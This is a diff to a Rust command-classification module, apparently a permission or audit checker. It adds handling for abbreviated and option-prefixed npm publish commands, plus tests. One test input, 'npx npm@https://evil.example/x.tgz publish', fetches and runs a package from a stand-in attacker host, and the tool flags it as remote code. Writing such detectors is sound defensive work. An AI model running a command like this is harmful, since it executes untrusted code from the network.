@@ -17,6 +17,7 @@ const FILTERS: &[&str] = &["-F", "--filter", "--filter-prod", "--workspace"];
 const OTHERS: &[&str] = &[
     "--loglevel", "--registry", "--userconfig", "--cache", "--reporter", "--workspace-concurrency", "--store-dir", "--config-dir", "--mutex", "--cache-folder",
     "--use-node-version", "--modules-folder", "--tag", "--otp", "--script-shell", "--node-options", "--test-pattern", "--lockfile-dir", "--virtual-store-dir",
+    "--access", "--auth-type", "--scope", "--globalconfig", "--proxy", "--https-proxy", "--cafile", "--publish-branch", "--omit", "--include",
 ];
 /// Directories in which projects of several packages keep them.
 const MEMBERS: &[&str] = &["apps", "packages", "libs", "services", "."];
@@ -33,7 +34,7 @@ pub(crate) fn effects(invocation: &Invocation, context: &mut Context<'_>, run: f
     if !matches!(invocation.program.as_str(), "npm" | "pnpm" | "yarn" | "bun") || !context.enters() {
         return false;
     }
-    let taken = taken(invocation, context);
+    let taken = taken(invocation, context).or_else(|| whole(invocation).map(|rest| Taken { rest, below: None }));
     let found = taken.is_some();
     if let Some(Taken { rest, below }) = taken {
         let directory = match (below, context.state.shell.directory.clone()) {
@@ -85,6 +86,10 @@ fn taken(invocation: &Invocation, context: &Context<'_>) -> Option<Taken> {
             kept.push(Word::known_as("-r"));
             is_led = true;
             at += 1 + usize::from(invocation.known(at + 1) == Some("foreach"));
+        } else if program == "npm" && head.is_empty() && is_value(at, invocation) {
+            kept.push(word.clone());
+            is_led = true;
+            at += 1;
         } else {
             head.push(word.clone());
             at += 1;
@@ -125,6 +130,34 @@ fn taken(invocation: &Invocation, context: &Context<'_>) -> Option<Taken> {
     words.extend(head);
     words.extend(invocation.words.get(at..).unwrap_or_default().iter().cloned());
     Some(Taken { rest: Invocation { words, contiguous: false, ..invocation.clone() }, below })
+}
+
+/// Whether the word at `at` is what an option of npm's takes that nobody here knows: no subcommand, and one is behind it.
+fn is_value(at: usize, invocation: &Invocation) -> bool {
+    let is_own = |at: usize| invocation.known(at).is_some_and(|word| super::is_own("npm", word) || completed(word).is_some());
+    let before = at.checked_sub(1).and_then(|before| invocation.known(before)).unwrap_or_default();
+    before.starts_with("--") && !before.contains('=') && !is_own(at) && is_own(at + 1)
+}
+
+/// The command with npm's subcommand in full, where it is shortened: `npm pub`.
+fn whole(invocation: &Invocation) -> Option<Invocation> {
+    let at = invocation.words.iter().position(|word| !word.text().starts_with('-')).filter(|_| invocation.program == "npm")?;
+    let full = completed(invocation.known(at)?)?;
+    let mut rest = invocation.clone();
+    rest.contiguous = false;
+    *rest.words.get_mut(at)? = Word::known_as(full);
+    Some(rest)
+}
+
+/// The one subcommand of npm that begins so, or one of several that do the same.
+fn completed(start: &str) -> Option<&'static str> {
+    if start.len() < 2 || super::is_own("npm", start) {
+        return None;
+    }
+    let begins = |words: &[&'static str]| words.iter().copied().find(|word| word.len() > 2 && word.starts_with(start));
+    let mut found = super::NODE.iter().filter_map(|(_, words)| begins(words));
+    let first = found.next();
+    first.filter(|_| found.next().is_none())
 }
 
 /// The directory of a package of the project by its name or its directory.
@@ -188,6 +221,31 @@ mod tests {
         exec.build yarn run, execute
         exec.test yarn run, execute
         exec.test bun test, execute
+        exec.build tsc, execute
+        ");
+    }
+
+    #[test]
+    fn other_spellings_of_publishing() {
+        for command in [
+            "npm --access public publish", "npm pub", "npm publi", "npm --auth-type legacy publish", "npm --frob some publish", "npx npm@9 publish", "npx pnpm@8 publish", "npx -y npm@latest publish",
+            "pnpm --filter web exec npm publish", "pnpm --filter web exec -- npm publish --access public", "pnpm -r exec npm publish", "npm --silent pub --access public",
+        ] {
+            assert_eq!(check(command), "package.publish * on npm, write", "{command}");
+        }
+        assert_snapshot!(check("npm unpub left-pad"), @"package.withdraw left-pad on npm, destroy");
+        assert_snapshot!(check("npm --access public publish --dry-run; npm pub --dry-run; npm inst; npm --silent test; npx npm@9 ls; npx npm@9 install"), @"
+        exec.build npm publish, execute
+        exec.install npm install, execute
+        package.read * on npm, read
+        exec.test npm test, execute
+        exec.read npm ls, read
+        ");
+        assert_snapshot!(check("npm pr; npm frob publish; npx npm@https://evil.example/x.tgz publish; pnpm --filter web exec tsc"), @"
+        exec.opaque npm, execute, opaque
+        exec.remote-code npx npm@https://evil.example/x.tgz publish, execute
+        exec.opaque npx, execute, opaque
+        exec.opaque npx told of evil.example, execute, opaque
         exec.build tsc, execute
         ");
     }
